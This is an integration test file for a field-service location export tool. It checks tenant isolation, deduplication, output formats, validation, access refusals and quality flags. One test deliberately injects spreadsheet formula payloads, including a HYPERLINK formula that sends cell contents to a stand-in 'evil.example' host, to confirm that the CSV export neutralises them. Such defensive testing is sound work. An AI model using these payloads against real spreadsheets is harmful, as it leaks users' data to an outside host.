"""Exports of a time range, against a real broker: ``locstream replay`` as a process and the HTTP export.

The topic holds three tenants on one partition, one on another, retried events and an event id reused by another
tenant; the range is cut between append times the broker reported, so exactly the events appended in it belong
to the export.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import geojson
import gpxpy
import httpx
import pyarrow.parquet as pq
import pytest

from domain.identity import identity
from domain.partitioning import tenant_partition
from locstream.kafka import append_records, ensure_topic
from locstream.settings import KafkaSettings
from replay.formats import GPX_NAMESPACE
from schemas.claims import Role
from schemas.events import (
    Event,
    FixQuality,
    LocationRecorded,
)
from tests.support.events import location, profile
from tests.support.kafka_io import append, clock_past
from tests.support.stack import Stack, eventually

pytestmark = pytest.mark.integration

TENANT = "acme-fiber"


def _neighbours(kafka: KafkaSettings) -> tuple[str, str]:
    """Another tenant on the tenant's partition, and one on another partition."""
    mine = tenant_partition(TENANT, kafka.partitions)
    names = [f"tenant-{i}" for i in range(200)]
    same = next(n for n in names if tenant_partition(n, kafka.partitions) == mine)
    other = next(n for n in names if tenant_partition(n, kafka.partitions) != mine)
    return same, other


def _fix(tenant: str, technician: str, minute: int, *, event_id: uuid.UUID | None = None, **data: Any) -> Event:
    at = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=60 - minute)
    return location(tenant, technician, at, 6.5 + minute / 100, 3.3 + minute / 100, event_id=event_id, **data)


def _profile(tenant: str, technician: str, name: str) -> Event:
    return profile(tenant, technician, datetime.now(UTC) - timedelta(minutes=30), name, "on_job")


def _iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


@dataclass
class History:
    start: str
    end: str
    expected: list[Event]  # the tenant's events appended in [start, end), each once, in log order
    retries: int  # of those, appended more than once in the range


@pytest.fixture
async def history(kafka: KafkaSettings) -> History:
    await ensure_topic(kafka)
    same, other = _neighbours(kafka)
    before = [_fix(TENANT, "tech-1", 0), _fix(same, "tech-1", 0)]
    shared_id = uuid.uuid4()
    inside = [
        _profile(TENANT, "tech-1", "Ada Obi"),
        _fix(TENANT, "tech-1", 1, accuracy_meters=5.0, altitude=12.0),
        _fix(same, "tech-1", 1),
        _fix(TENANT, "tech-2", 2, event_id=shared_id),
        _fix(other, "tech-2", 2, event_id=shared_id),  # the same id from another tenant is another event
        _fix(TENANT, "tech-1", 3, activity="driving", speed_kmh=42.0),
        _fix(TENANT, "tech-2", 1, backfill=True),  # late, from the device's buffer
        _fix(same, "tech-9", 4),
        _fix(TENANT, "tech-1", 5),
    ]
    retried = [inside[1], inside[5], inside[3]]  # a client re-sending after a timeout
    after = [_fix(TENANT, "tech-1", 9), _fix(same, "tech-1", 9)]
    await clock_past(max(await append(kafka, before)))
    stamps = await append(kafka, inside + retried)
    poison = (kafka.topic, TENANT.encode(), b'{"type": "not an event"')  # of the tenant, in the range: counted, skipped
    await append_records(kafka, [poison])
    await clock_past(max(stamps))
    end = min(await append(kafka, after))
    mine = [e for e in inside if e.tenant_id == TENANT]
    assert len({identity(e) for e in mine}) == len(mine)
    return History(_iso(min(stamps)), _iso(end), mine, retries=len(retried))


def _ids(events: Sequence[Event]) -> list[str]:
    return [str(e.event_id) for e in events]


async def test_an_ndjson_export_holds_exactly_the_tenants_events_of_the_range_once_in_order(
    stack: Stack, history: History, tmp_path: Path
) -> None:
    out = tmp_path / "acme.ndjson"
    token = stack.token(TENANT, Role.ANALYST)
    code, stdout, stderr = await stack.replay_cli(
        "--tenant", TENANT, "--from", history.start, "--to", history.end, "--out", str(out), token=token
    )
    assert code == 0, stderr
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [line["event_id"] for line in lines] == _ids(history.expected)
    assert {line["tenant_id"] for line in lines} == {TENANT}
    offsets = [line["offset"] for line in lines]
    assert offsets == sorted(offsets) and len(set(offsets)) == len(offsets)
    assert all(history.start <= line["appended_at"] < history.end for line in lines)
    summary = json.loads(stdout)
    assert summary["complete"] is True and summary["events"] == len(history.expected)
    assert summary["duplicates"] == history.retries and summary["technicians"] == 2 and summary["invalid"] == 1
    assert not (tmp_path / "acme.ndjson.partial").exists()


async def test_every_format_reads_back_with_a_real_parser(stack: Stack, history: History, tmp_path: Path) -> None:
    token = stack.token(TENANT, Role.ADMIN)
    exported: dict[str, Path] = {}
    for name in ("csv", "geojson", "gpx", "parquet"):
        exported[name] = tmp_path / f"acme.{name}"
        code, _, stderr = await stack.replay_cli(
            "--tenant",
            TENANT,
            "--from",
            history.start,
            "--to",
            history.end,
            "--format",
            name,
            "--out",
            str(exported[name]),
            token=token,
        )
        assert code == 0, stderr
    fixes = [e for e in history.expected if isinstance(e, LocationRecorded)]

    rows = list(csv.DictReader(io.StringIO(exported["csv"].read_text())))
    assert [row["event_id"] for row in rows] == _ids(history.expected)
    assert [row["type"] for row in rows].count("technician_updated") == 1
    assert float(rows[1]["latitude"]) == fixes[0].data.latitude and rows[1]["accuracy_meters"] == "5.0"

    text = exported["geojson"].read_text()
    assert geojson.loads(text).is_valid, geojson.loads(text).errors()
    collection = json.loads(text)  # the checker rounds coordinates to 6 decimals; the values are compared exactly
    lines = {
        f["properties"]["technician_id"]: f for f in collection["features"] if f["geometry"]["type"] == "LineString"
    }
    for technician in ("tech-1", "tech-2"):
        track = sorted((f for f in fixes if f.technician_id == technician), key=lambda f: f.recorded_at)
        assert lines[technician]["geometry"]["coordinates"] == [[f.data.longitude, f.data.latitude] for f in track]
    assert lines["tech-1"]["properties"]["technician_name"] == "Ada Obi"
    points = [f for f in collection["features"] if f["geometry"]["type"] == "Point"]
    assert sorted(p["properties"]["event_id"] for p in points) == sorted(_ids(fixes))

    gpx = gpxpy.parse(exported["gpx"].read_text())
    tracks = {track.source: track for track in gpx.tracks}
    assert tracks["tech-1"].name == "Ada Obi" and set(tracks) == {"tech-1", "tech-2"}
    times = [p.time for p in tracks["tech-1"].segments[0].points]
    assert times == sorted(f.recorded_at for f in fixes if f.technician_id == "tech-1")
    assert tracks["tech-1"].segments[0].points[0].elevation == 12.0

    table = pq.read_table(exported["parquet"])
    assert table.column("event_id").to_pylist() == _ids(history.expected)
    assert str(table.schema.field("recorded_at").type) == "timestamp[us, tz=UTC]"


async def test_a_technician_filter_keeps_only_its_events(stack: Stack, history: History, tmp_path: Path) -> None:
    out = tmp_path / "tech-2.ndjson"
    code, _, stderr = await stack.replay_cli(
        "--tenant",
        TENANT,
        "--from",
        history.start,
        "--to",
        history.end,
        "--technician",
        "tech-2",
        "--out",
        str(out),
        token=stack.token(TENANT, Role.ANALYST),
    )
    assert code == 0, stderr
    expected = [e for e in history.expected if e.technician_id == "tech-2"]
    assert [json.loads(line)["event_id"] for line in out.read_text().splitlines()] == _ids(expected)


async def test_bad_input_gets_a_reason_a_non_zero_exit_and_no_file(
    stack: Stack, history: History, tmp_path: Path
) -> None:
    analyst = stack.token(TENANT, Role.ANALYST)
    old = (datetime.now(UTC) - timedelta(days=40)).isoformat()
    cases = [
        (["--from", history.end, "--to", history.start], analyst, "must be before"),
        (["--from", "last tuesday", "--to", history.end], analyst, "not an ISO 8601 time"),
        (["--from", old, "--to", history.end], analyst, "outside the topic's retention"),
        (["--from", history.start, "--to", history.end, "--format", "kml"], analyst, "unknown format"),
        (["--from", history.start, "--to", history.end], stack.token("tenant-x", Role.ANALYST), "another tenant"),
        (["--from", history.start, "--to", history.end], stack.token(TENANT, Role.DISPATCHER), "may not export"),
        (["--from", history.start, "--to", history.end], None, "missing token"),
    ]
    out = tmp_path / "refused.ndjson"
    for args, token, reason in cases:
        code, _, stderr = await stack.replay_cli("--tenant", TENANT, *args, "--out", str(out), token=token)
        assert code == 2 and reason in stderr, (args, code, stderr)
        assert not out.exists() and not (tmp_path / "refused.ndjson.partial").exists()


async def test_the_http_export_streams_the_same_bytes_and_refuses_bad_input_with_4xx(
    stack: Stack, history: History, tmp_path: Path
) -> None:
    token = stack.token(TENANT, Role.ANALYST)
    out = tmp_path / "cli.ndjson"
    code, _, stderr = await stack.replay_cli(
        "--tenant", TENANT, "--from", history.start, "--to", history.end, "--out", str(out), token=token
    )
    assert code == 0, stderr
    projector = await stack.start("projector")
    url = f"{projector.url}/api/v1/field-service/history/export"
    window = {"from": history.start, "to": history.end}
    async with httpx.AsyncClient(timeout=30) as client:
        answer = await client.get(url, params=window, headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 200 and answer.headers["transfer-encoding"] == "chunked"
        assert answer.headers["content-type"].startswith("application/x-ndjson")
        assert answer.content == out.read_bytes()
        gpx = await client.get(url, params={**window, "format": "gpx"}, headers={"Authorization": f"Bearer {token}"})
        assert gpx.status_code == 200 and len(gpxpy.parse(gpx.text).tracks) == 2
        refusals = [
            ({"from": history.end, "to": history.start}, token, 422, "must be before"),
            ({**window, "format": "kml"}, token, 400, "unknown format"),
            ({**window, "to": "9999-12-31T23:59:59-23:59"}, token, 422, "years 1 to 9999"),  # was 500: overflow
            ({**window, "from": "0001-01-01T00:00:00+14:00"}, token, 422, "years 1 to 9999"),
            (window, stack.token(TENANT, Role.DISPATCHER), 403, "may not export"),
            (window, None, 401, "token"),
        ]
        for params, who, status, reason in refusals:
            headers = {"Authorization": f"Bearer {who}"} if who else {}
            refused = await client.get(url, params=params, headers=headers)
            assert refused.status_code == status and reason in refused.text, (params, refused.text)


async def test_hostile_names_and_values_export_as_text_a_spreadsheet_will_not_run_and_as_valid_gpx(
    stack: Stack, kafka: KafkaSettings, tmp_path: Path
) -> None:
    await ensure_topic(kafka)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    events = [
        _profile(TENANT, "-tech", "\x01Ada\x0b Obi\x1f"),  # control characters XML 1.0 cannot carry
        _fix(TENANT, "-tech", 1, activity=formula, job_id="@SUM(1+1)"),
        _fix(TENANT, "tech-2", 2, activity="+1-1", job_id="\t=cmd"),
        _profile(TENANT, "tech-2", "=2+5"),
    ]
    stamps = await append(kafka, events)
    await clock_past(max(stamps))
    token = stack.token(TENANT, Role.ANALYST)
    window = ("--from", _iso(min(stamps)), "--to", _iso(max(stamps) + 1))
    code, out, err = await stack.replay_cli("--tenant", TENANT, *window, "--format", "csv", token=token)
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [value for row in rows for value in row.values() if value]
    dangerous = [cell for cell in cells if cell[0] in "=+@\t\r" or (cell[0] == "-" and not _number(cell))]
    assert dangerous == []
    assert {row["activity"] for row in rows} >= {"'" + formula, "'+1-1"} and "'-tech" in {
        r["technician_id"] for r in rows
    }
    assert any(row["longitude"].startswith("3.3") for row in rows)  # numbers stay numbers
    gpx_path = tmp_path / "hostile.gpx"
    code, _, err = await stack.replay_cli(
        "--tenant", TENANT, *window, "--format", "gpx", "--out", str(gpx_path), token=token
    )
    assert code == 0, err
    tracks = gpxpy.parse(gpx_path.read_text()).tracks  # a real XML parser: a raw \x01 would be a syntax error
    assert {track.name for track in tracks} == {"\ufffdAda\ufffd Obi\ufffd", "=2+5"}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_exports_judge_each_fix_as_the_projector_does_and_filter_by_quality(
    stack: Stack, kafka: KafkaSettings
) -> None:
    """A jump in the range is judged beside a good fix appended before it (read, not written); the export's
    verdicts equal the projector's history's, fix by fix; ``quality`` picks good (the default), flagged or all."""
    await ensure_topic(kafka)
    judged = FixQuality(flags=(), max_speed_kmh=200.0)
    mock = FixQuality(flags=("mock",), max_speed_kmh=200.0)
    t0 = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=30)
    anchor = location(TENANT, "tech-q", t0, 6.5, 3.3, quality=judged)  # before the range
    inside: list[Event] = [
        location(TENANT, "tech-q", t0 + timedelta(minutes=1), 16.5, 3.3, quality=judged),  # 1,100 km in a minute
        location(TENANT, "tech-q", t0 + timedelta(minutes=2), 6.501, 3.3, quality=judged),  # back: good
        location(TENANT, "tech-q", t0 + timedelta(minutes=3), 6.502, 3.3, quality=mock),  # flagged at ingest
        profile(TENANT, "tech-q", t0 + timedelta(minutes=3), "Quinn", "on_job"),
    ]
    await clock_past(max(await append(kafka, [anchor])))
    stamps = await append(kafka, inside)
    await clock_past(max(stamps))
    window = {"from": _iso(min(stamps)), "to": _iso(max(stamps) + 1)}
    projector = await stack.start("projector")
    token = stack.token(TENANT, Role.ANALYST)
    headers = {"Authorization": f"Bearer {token}"}
    url = f"{projector.url}/api/v1/field-service/history/export"
    async with httpx.AsyncClient(timeout=30) as client:

        async def export(**params: str) -> list[dict[str, Any]]:
            answer = await client.get(url, params={**window, **params}, headers=headers)
            assert answer.status_code == 200, answer.text
            return [json.loads(line) for line in answer.text.splitlines()]

        good, flagged, every = await export(), await export(quality="flagged"), await export(quality="all")
        assert [(line["type"], line.get("quality")) for line in good] == [
            ("location_recorded", []),
            ("technician_updated", None),
        ]
        assert [line["quality"] for line in flagged] == [["jump"], ["mock"]]  # and no other event
        assert [line["event_id"] for line in every] == _ids(inside)
        as_csv = await client.get(url, params={**window, "format": "csv", "quality": "all"}, headers=headers)
        assert [row["quality"] for row in csv.DictReader(io.StringIO(as_csv.text))] == ["jump", "", "mock", ""]
        points = geojson.loads(
            (await client.get(url, params={**window, "format": "geojson", "quality": "all"}, headers=headers)).text
        )
        marked = [f["properties"].get("quality") for f in points["features"] if f["geometry"]["type"] == "Point"]
        assert marked == [["jump"], None, ["mock"]]
        gpx = (await client.get(url, params={**window, "format": "gpx", "quality": "all"}, headers=headers)).text
        (track,) = gpxpy.parse(gpx).tracks  # a GPX reader takes the flags as extensions, in locstream's namespace
        extensions = [point.extensions for point in track.segments[0].points]
        assert [[e.text for e in found] or None for found in extensions] == [["jump"], None, ["mock"]]
        assert {e.tag for found in extensions for e in found} == {f"{{{GPX_NAMESPACE}}}quality"}
        odd = await client.get(url, params={**window, "quality": "GOOD"}, headers=headers)
        assert odd.status_code == 422 and "quality" in odd.text

        # The projector's history says the same of each fix: one rule, whoever reads the log.
        history = f"{projector.url}/api/v1/field-service/technicians/tech-q/location-history"
        query = {"start_time": (t0 - timedelta(minutes=1)).isoformat(), "quality": "all", "limit": "100"}

        async def listed() -> dict[str, list[str]] | None:
            answer = await client.get(history, params=query, headers=headers)
            points = answer.json()["locations"] if answer.status_code == 200 else []
            return {p["event_id"]: p["quality"] for p in points} if len(points) == 4 else None

        by_projector = await eventually(listed, timeout=30, what="the projector's history of tech-q")
    by_export = {line["event_id"]: line["quality"] for line in every if "quality" in line}
    assert by_export == {k: v for k, v in by_projector.items() if k != str(anchor.event_id)}
    assert by_projector[str(anchor.event_id)] == []
